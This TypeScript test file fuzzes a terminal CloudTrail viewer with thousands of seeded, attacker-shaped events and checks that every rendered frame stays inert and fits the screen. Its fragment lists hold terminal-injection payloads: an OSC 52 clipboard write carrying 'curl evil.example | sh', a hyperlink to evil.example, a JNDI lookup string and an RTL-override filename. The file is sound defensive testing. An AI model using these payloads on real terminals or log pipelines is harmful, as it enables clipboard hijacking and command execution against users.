/**
 * Hostile CloudTrail events through the real renderer: thousands of seeded, attacker-shaped events (escape
 * sequences, C0/C1 controls, bidi, lone surrogates, wide and zero-width text, huge and malformed records)
 * in the App with a fake monitor, paged through whole at 80x24 and 120x40 with the detail view opened for
 * a few hundred of them. Every frame Ink writes is checked: nothing a terminal would interpret, nothing
 * wider or taller than the screen.
 */
import {afterEach, test} from 'node:test';
import assert from 'node:assert/strict';
import {textWidth} from '../../source/text/width.js';
import type {IdentityType, TrailEvent} from '../../source/types.js';
import {formatClock, formatCount} from '../../source/render/format.js';
import type {TerminalSize} from '../../source/ui/shared/use-terminal-size.js';
import {event, fakeMonitor, fixedClock, KEYS, NOW, snapshot} from './helpers.js';
import {loadShippedRenderer} from './shipped-renderer.js';
import {prng} from '../baseline/synthetic.js';

// No static import of ink or react here (see shipped-renderer.ts), hence createElement instead of JSX.
const {createElement, render, cleanup, App, Text} = await loadShippedRenderer();
afterEach(() => cleanup());

const COUNT = 3000;
const SEED = 0x1badc0de;
const ESC = '\u001B';
const BEL = '\u0007';

type Rng = () => number;
const pick = <T,>(rng: Rng, items: readonly T[]): T => items[Math.floor(rng() * items.length)] as T;

/** Fragments by kind; a hostile string is a random mix of them. */
const FRAGMENTS: Record<string, readonly string[]> = {
	csi: [`${ESC}[31m`, `${ESC}[2J`, `${ESC}[?1049l`, `${ESC}[?25l`, `${ESC}[1;1H`, `${ESC}[5;38;5;196m`, `${ESC}[K`, `${ESC}[6n`, `${ESC}[21t`, `${ESC}[3A`],
	osc: [
		`${ESC}]0;pwned${BEL}`,
		`${ESC}]2;x${ESC}\\`,
		`${ESC}]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}${BEL}`,
		`${ESC}]52;p;?${ESC}\\`,
		`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
		`${ESC}]4;1;rgb:ff/00/00${BEL}`,
	],
	dcs: [`${ESC}P1$r0m${ESC}\\`, `${ESC}Pq#0;2;0;0;0#0~~${ESC}\\`, `${ESC}_apc${ESC}\\`, `${ESC}^pm${ESC}\\`, `${ESC}Xsos${ESC}\\`, `${ESC}c`, `${ESC}7${ESC}8`],
	c1: ['\u009B31m', `\u009D0;pwned${BEL}`, '\u0090q\u009C', '\u0085', '\u009B?1049l', '\u009E', '\u009F', '\u0080', '\u008D'],
	c0: [BEL, '\b', '\r', '\n', '\u0000', '\u007F', '\t', '\u000B', '\u000C', '\r\n', ESC, '\u0018', '\u001A', '\b\b\b\b'],
	bidi: ['\u202E', '\u202D', '\u202A', '\u202B', '\u202C', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C', 'invoice\u202Efdp.exe'],
	invisible: ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u2028', '\u2029'],
	surrogate: ['\uD800', '\uDFFF', '\uDBFF', 'x\uDC00y', '\uD83D'],
	cjk: ['漢字', 'テスト', '한국어', 'ＡＢＣ１２３', '𠀋𡈽', '中文名称很长很长'],
	emoji: ['👩‍👩‍👧‍👦', '🏳️‍🌈', '👨🏽‍💻', '🇯🇵', '1️⃣', '❤️', '🧑‍🚀', '🦄'],
	combining: ['e\u0301', '\u0301\u0302\u0303', 'Z\u0337\u0322\u031B\u0353a\u0338\u0321l\u0336g\u0334o', 'क्षि', 'ก่ำ', 'a\u20DD'],
	plain: ['AttachPolicy', 'alice', '10.0.0.1', 'AccessDenied', 'arn:aws:iot:us-east-1:123456789012:thing/x', ' ', '%s%n', '${jndi:ldap://x}', '"q"', '\\'],
};
const KINDS = Object.keys(FRAGMENTS);

function fragment(rng: Rng): string {
	return pick(rng, FRAGMENTS[pick(rng, KINDS)] ?? []);
}

/** A 100,000-character hostile string (a mix repeated). */
function huge(rng: Rng): string {
	let unit = '';
	for (let i = 0; i < 12; i++) unit += fragment(rng);
	return unit.repeat(Math.ceil(100_000 / unit.length)).slice(0, 100_000);
}

/** A mix of 1-8 fragments; now and then (rarely: they cost memory) 100,000 characters of them. */
function hostile(rng: Rng): string {
	if (rng() < 0.002) return huge(rng);
	let out = '';
	const parts = 1 + Math.floor(rng() * 8);
	for (let i = 0; i < parts; i++) out += fragment(rng);
	return out;
}

/** Hostile text, or null/undefined now and then. */
function maybe(rng: Rng): string | null | undefined {
	const u = rng();
	if (u < 0.05) return null;
	if (u < 0.1) return undefined;
	return hostile(rng);
}

/** A value of any JSON type where a string is expected. */
function wrongType(rng: Rng): unknown {
	return pick(rng, [0, -1, 1e308, true, [], [hostile(rng)], {x: hostile(rng)}, null]);
}

function nested(depth: number, leaf: unknown): unknown {
	let value = leaf;
	for (let i = 0; i < depth; i++) value = {[i % 2 === 0 ? 'a' : `${ESC}]0;deep${BEL}`]: value};
	return value;
}

function userIdentity(rng: Rng): unknown {
	const u = rng();
	if (u < 0.05) return null;
	if (u < 0.1) return hostile(rng);
	const type = rng() < 0.7 ? pick(rng, ['IAMUser', 'AssumedRole', 'Root', 'AWSService', 'FederatedUser', 'SAMLUser', 'WebIdentityUser', 'IdentityCenterUser', 'AWSAccount']) : hostile(rng);
	const issuerArn = `arn:aws:iam::123456789012:role/${hostile(rng)}`;
	return {
		type,
		principalId: `AROA${hostile(rng)}:${hostile(rng)}`,
		arn: rng() < 0.5 ? `arn:aws:sts::123456789012:assumed-role/${hostile(rng)}/${hostile(rng)}` : maybe(rng),
		accountId: rng() < 0.8 ? '123456789012' : maybe(rng),
		accessKeyId: rng() < 0.5 ? `ASIA${hostile(rng)}` : maybe(rng),
		userName: rng() < 0.9 ? maybe(rng) : wrongType(rng),
		invokedBy: maybe(rng),
		identityProvider: maybe(rng),
		onBehalfOf: rng() < 0.2 ? {userId: hostile(rng), identityStoreArn: hostile(rng)} : undefined,
		sessionContext: rng() < 0.2 ? hostile(rng) : {
			sessionIssuer: {type: maybe(rng), userName: maybe(rng), arn: issuerArn, accountId: maybe(rng)},
			attributes: {creationDate: maybe(rng), mfaAuthenticated: pick(rng, ['true', 'false', hostile(rng)])},
			sourceIdentity: maybe(rng),
		},
	};
}

function requestParameters(rng: Rng): unknown {
	const u = rng();
	if (u < 0.05) return null;
	if (u < 0.1) return hostile(rng);
	if (u < 0.13) return nested(200 + Math.floor(rng() * 3000), hostile(rng));
	const out: Record<string, unknown> = {};
	const keys = Math.floor(rng() * 10);
	for (let i = 0; i < keys; i++) out[rng() < 0.5 ? hostile(rng) : `param${i}`] = rng() < 0.8 ? hostile(rng) : wrongType(rng);
	if (rng() < 0.2) out['newStatus'] = hostile(rng);
	return out;
}

/** The CloudTrailEvent string: mostly hostile-but-valid JSON, sometimes broken, empty, huge or deep. */
function rawRecord(rng: Rng, index: number, eventName: string, errorCode: string | null): string {
	const u = rng();
	if (u < 0.05) return '';
	if (u < 0.12) return hostile(rng); // not JSON at all
	if (u < 0.16) return `{"eventName":"${hostile(rng)}","userAgent":"${hostile(rng)}"}`; // raw controls: invalid JSON
	if (u < 0.165) return '['.repeat(50_000) + ']'.repeat(50_000); // valid JSON, not an object, deep
	if (u < 0.17) return `{"a":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_001)}`; // deeper than any printer
	if (index % 1000 === 7) return `{"userAgent":"${'\\u001b]0;pwned\\u0007'.repeat(150_000)}"}`; // over the parse limit
	const record: Record<string, unknown> = {
		eventVersion: rng() < 0.9 ? '1.11' : wrongType(rng),
		userIdentity: userIdentity(rng),
		eventTime: rng() < 0.8 ? new Date(NOW - index * 1000).toISOString() : maybe(rng),
		eventSource: rng() < 0.9 ? 'iot.amazonaws.com' : maybe(rng),
		eventName,
		awsRegion: rng() < 0.8 ? 'us-east-1' : maybe(rng),
		sourceIPAddress: maybe(rng),
		userAgent: rng() < 0.9 ? maybe(rng) : wrongType(rng),
		errorCode,
		errorMessage: rng() < 0.9 ? maybe(rng) : wrongType(rng),
		requestParameters: requestParameters(rng),
		responseElements: rng() < 0.5 ? null : {x: hostile(rng)},
		requestID: maybe(rng),
		eventID: `id-${index}`,
		readOnly: pick(rng, [true, false, 'true', hostile(rng), null]),
		resources: rng() < 0.5 ? [{ARN: hostile(rng), type: hostile(rng)}, {ARN: null}, hostile(rng)] : wrongType(rng),
		vpcEndpointId: maybe(rng),
		sessionCredentialFromConsole: pick(rng, ['true', hostile(rng), undefined]),
		recipientAccountId: maybe(rng),
	};
	// Every field gets a 100,000-character value in some events.
	const slot = index % 60;
	if (slot === 6) record['userAgent'] = huge(rng);
	if (slot === 7) record['errorMessage'] = huge(rng);
	if (slot === 8) record['requestParameters'] = {[huge(rng)]: huge(rng), thingName: huge(rng)};
	if (slot === 9 && typeof record['userIdentity'] === 'object' && record['userIdentity'] !== null) {
		Object.assign(record['userIdentity'], {userName: huge(rng), arn: huge(rng), principalId: huge(rng)});
	}
	if (rng() < 0.1) {
		// Oddly cased keys, as some records have.
		record['USERIDENTITY'] = record['userIdentity'];
		delete record['userIdentity'];
		record['UserAgent'] = hostile(rng);
	}
	return JSON.stringify(record);
}

const IDENTITY_TYPES: readonly IdentityType[] = ['Root', 'IAMUser', 'AssumedRole', 'FederatedUser', 'AWSAccount', 'AWSService', 'SAMLUser', 'WebIdentityUser', 'IdentityCenterUser', 'Unknown'];

/** Newest first, one a second back from NOW, so each row's clock identifies its event. */
function hostileEvents(count: number, seed: number): TrailEvent[] {
	const rng = prng(seed);
	return Array.from({length: count}, (_, index) => {
		// Every field gets a 100,000-character value in some events.
		const slot = index % 60;
		const big = (at: number, text: string | null) => (slot === at ? huge(rng) : text);
		const eventName = big(1, hostile(rng)) ?? '';
		const errorCode = big(4, rng() < 0.5 ? hostile(rng) : null);
		return event({
			eventId: `${index}:${hostile(rng).slice(0, 300)}`,
			eventTime: NOW - index * 1000,
			eventName,
			eventSource: rng() < 0.9 ? 'iot.amazonaws.com' : hostile(rng),
			username: big(2, maybe(rng) ?? null),
			identityType: rng() < 0.95 ? pick(rng, IDENTITY_TYPES) : (hostile(rng) as IdentityType),
			readOnly: pick(rng, [true, false, null]),
			errorCode,
			sourceIp: big(3, maybe(rng) ?? null),
			awsRegion: maybe(rng) ?? null,
			resources: Array.from({length: slot === 5 ? 2 : Math.floor(rng() * 4)}, () => ({type: maybe(rng) ?? null, name: big(5, maybe(rng) ?? null)})),
			raw: rawRecord(rng, index, eventName, errorCode),
			late: rng() < 0.1,
		});
	});
}

// What no frame may contain (after Ink's own colours, if any, are removed): C0 controls but the line feed
// between lines, DEL, C1, bidi controls and marks, line/paragraph separators, and lone surrogates.
const FORBIDDEN = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
// Only well-formed SGR, the one kind of sequence Ink writes for colour.
const SGR = /\u001B\[[0-9;]*m/g;

/** Whether Ink colours frames in this process (chalk decides from FORCE_COLOR and the real stdout). */
async function inkWritesColour(): Promise<boolean> {
	const probe = render(createElement(Text, {color: 'red'}, 'x'));
	await until(() => probe.lastFrame() !== undefined, 'the colour probe');
	const frame = probe.lastFrame() ?? '';
	probe.unmount();
	return frame.includes(ESC);
}

/** Polls on setImmediate (frames land after one); fails after `timeoutMs`. */
async function until(predicate: () => boolean, what: string, timeoutMs = 5000): Promise<void> {
	const deadline = Date.now() + timeoutMs;
	while (!predicate()) {
		if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
		await new Promise(resolve => setImmediate(resolve));
	}
}

const describeChar = (char: string) => `U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`;

function checkFrame(raw: string, size: TerminalSize, colour: boolean, where: string): void {
	const frame = colour ? raw.replace(SGR, '') : raw;
	const context = (index: number) => JSON.stringify(frame.slice(Math.max(0, index - 40), index + 40));
	const esc = frame.indexOf(ESC);
	assert.equal(esc, -1, `${where}: ESC reached the screen near ${context(esc)}`);
	const bad = FORBIDDEN.exec(frame);
	assert.equal(bad, null, bad ? `${where}: ${describeChar(bad[0])} reached the screen near ${context(bad.index)}` : '');
	const lone = LONE_SURROGATE.exec(frame);
	assert.equal(lone, null, lone ? `${where}: lone surrogate ${describeChar(lone[0])} near ${context(lone.index)}` : '');
	const lines = frame.split('\n');
	assert.ok(lines.length <= size.rows - 1, `${where}: ${lines.length} lines on a ${size.rows}-row terminal`);
	for (const line of lines) {
		const width = textWidth(line);
		assert.ok(width <= size.columns, `${where}: a line ${width} columns wide on a ${size.columns}-column terminal: ${JSON.stringify(line)}`);
	}
}

const EVENTS = hostileEvents(COUNT, SEED);
const TOTAL = formatCount(COUNT);
const CLOCK_AT_ROW_START = /^[▸ ](\d\d:\d\d:\d\d)/;

/**
 * Renders the App, pages through the whole list with PgDn and opens the detail view (Enter, PgDn, G,
 * Esc) on every `detailEvery`-th page; checks every frame. Returns how many details were opened and the
 * events' clocks seen on list rows.
 */
async function pageThrough(size: TerminalSize, detailEvery: number, colour: boolean) {
	const rng = prng(SEED ^ size.columns);
	const app = render(createElement(App, {monitor: fakeMonitor(snapshot({events: EVENTS})), onExit: () => {}, size, clock: fixedClock}));
	let checked = 0;
	const checkNew = (where: string) => {
		for (; checked < app.frames.length; checked++) {
			const written = app.frames[checked] ?? '';
			checkFrame(written, size, colour, `${size.columns}x${size.rows} frame ${checked} (${where})`);
			if (written.includes(' EVENTS ')) collect(colour ? written.replace(SGR, '') : written);
		}
	};
	const frame = () => (colour ? (app.lastFrame() ?? '').replace(SGR, '') : (app.lastFrame() ?? ''));
	const position = () => new RegExp(`· ([\\d\\u2009]+)/${TOTAL}`).exec(frame())?.[1] ?? null;
	const seen = new Set<string>();
	const started = performance.now();
	const collect = (text: string) => {
		for (const line of text.split('\n')) {
			const clock = CLOCK_AT_ROW_START.exec(line)?.[1];
			if (clock) seen.add(clock);
		}
	};
	/** Sends one key and waits until the frame satisfies `ready`, checking every frame written meanwhile. */
	const press = async (key: string, ready: () => boolean, what: string) => {
		app.stdin.write(key);
		await until(ready, `${what} at ${size.columns}x${size.rows}`);
		checkNew(what);
	};

	await until(() => app.stdin.listenerCount('readable') > 0 && frame().includes('EVENTS'), 'the first frame');
	checkNew('first frame');
	let details = 0;
	let pages = 0;
	for (;;) {
		const before = position();
		if (before === TOTAL) break;
		await press(KEYS.pageDown, () => position() !== null && position() !== before, 'PgDn in the list');
		pages++;
		if (pages % detailEvery !== 0) continue;
		// Now and then move the selection, so different rows of the page are opened.
		if (rng() < 0.5 && position() !== TOTAL) {
			const at = position();
			await press('j', () => position() !== at, 'j in the list');
		}
		const listPosition = position();
		await press('\r', () => /^ DETAIL/m.test(frame()), 'Enter');
		details++;
		const detailTitle = () => /^ DETAIL.*$/m.exec(frame())?.[0] ?? '';
		const atEnd = () => {
			const lines = /lines ([\d\u2009]+)–([\d\u2009]+) of ([\d\u2009]+)/.exec(detailTitle());
			return lines === null || lines[2] === lines[3];
		};
		if (!atEnd()) {
			const title = detailTitle();
			await press(KEYS.pageDown, () => detailTitle() !== title, 'PgDn in the detail');
		}
		// The end of the record too (where a huge or unparsable record's tail is), for every third one.
		if (details % 3 === 0 && !atEnd()) await press('G', atEnd, 'G in the detail');
		await press(KEYS.escape, () => frame().includes('EVENTS') && position() === listPosition, 'Esc back to the list');
	}
	checkNew('end');
	app.unmount();
	const ms = Math.round(performance.now() - started);
	return {details, pages, seen, frames: app.frames.length, ms};
}

test('3,000 hostile events: every frame at 80x24 and 120x40 is inert text that fits the screen', async t => {
	const colour = await inkWritesColour();
	t.diagnostic(colour ? 'Ink writes colour here: its SGR sequences are removed before the checks' : 'Ink writes no colour here: no ESC at all may appear');
	// Ink colours only when chalk sees a colour terminal (or FORCE_COLOR, which node --test sets under a TTY);
	// then only its well-formed SGR is removed before the checks, and any other ESC still fails.
	const expected = new Set(EVENTS.map(e => formatClock(e.eventTime)));
	let details = 0;
	for (const [size, detailEvery] of [
		[{columns: 80, rows: 24}, 2],
		[{columns: 120, rows: 40}, 4],
	] as const) {
		const result = await pageThrough(size, detailEvery, colour);
		details += result.details;
		t.diagnostic(`${size.columns}x${size.rows}: ${result.pages} pages, ${result.details} details, ${result.frames} frames checked in ${result.ms} ms`);
		assert.deepEqual([...expected].filter(clock => !result.seen.has(clock)), [], `every event was on screen at ${size.columns}x${size.rows}`);
	}
	assert.ok(details >= 200, `${details} detail views opened`);
});

/** Renders the App over EVENTS at `size`, checking every frame; `press` sends one chunk and waits for `ready`. */
async function checkedApp(size: TerminalSize, colour: boolean) {
	const app = render(createElement(App, {monitor: fakeMonitor(snapshot({events: EVENTS})), onExit: () => {}, size, clock: fixedClock}));
	let checked = 0;
	const frame = () => (colour ? (app.lastFrame() ?? '').replace(SGR, '') : (app.lastFrame() ?? ''));
	const checkNew = (where: string) => {
		for (; checked < app.frames.length; checked++) checkFrame(app.frames[checked] ?? '', size, colour, `frame ${checked} (${where})`);
	};
	await until(() => app.stdin.listenerCount('readable') > 0 && frame().includes('EVENTS'), 'the first frame');
	checkNew('first frame');
	return {
		frame,
		async press(chunk: string, ready: () => boolean, what: string) {
			app.stdin.write(chunk);
			await until(ready, what);
			checkNew(what);
		},
	};
}

test('hostile text pasted into the filter line, and the user filter on hostile callers, stay inert', async () => {
	const colour = await inkWritesColour();
	const {frame, press} = await checkedApp({columns: 80, rows: 24}, colour);
	await press('/', () => frame().includes('⏎ apply'), 'the filter line');
	// A paste: Ink hands it over as one input. Bidi, C1 and invisible characters, CJK and emoji.
	await press(`x\u202Egnp.exe\u2066漢字\u009B31m👩‍👩‍👧‍👦e\u0301\u200B`, () => frame().includes('gnp.exe'), 'a hostile paste');
	await press('\r', () => !frame().includes('⏎ apply'), 'the filter applied');
	await press('c', () => !frame().includes('filter:'), 'filters cleared');
	// The user filter takes the selected event's identity label, which may be hostile.
	for (let i = 0; i < 25; i++) {
		await press('u', () => frame().includes('filter:'), 'the user filter');
		await press('u', () => !frame().includes('filter:'), 'the user filter off');
		const at = /· ([\d\u2009]+)\//.exec(frame())?.[1] ?? null;
		await press('j', () => (/· ([\d\u2009]+)\//.exec(frame())?.[1] ?? null) !== at, 'j');
	}
});

test(
	'a paste that crosses the 200-character limit of the filter line inside a surrogate pair leaves no lone surrogate',
	async () => {
		const colour = await inkWritesColour();
		const {frame, press} = await checkedApp({columns: 80, rows: 24}, colour);
		await press('/', () => frame().includes('⏎ apply'), 'the filter line');
		await press(`${'a'.repeat(199)}😀b`, () => /aaaa/.test(frame()), 'a long paste');
	},
);
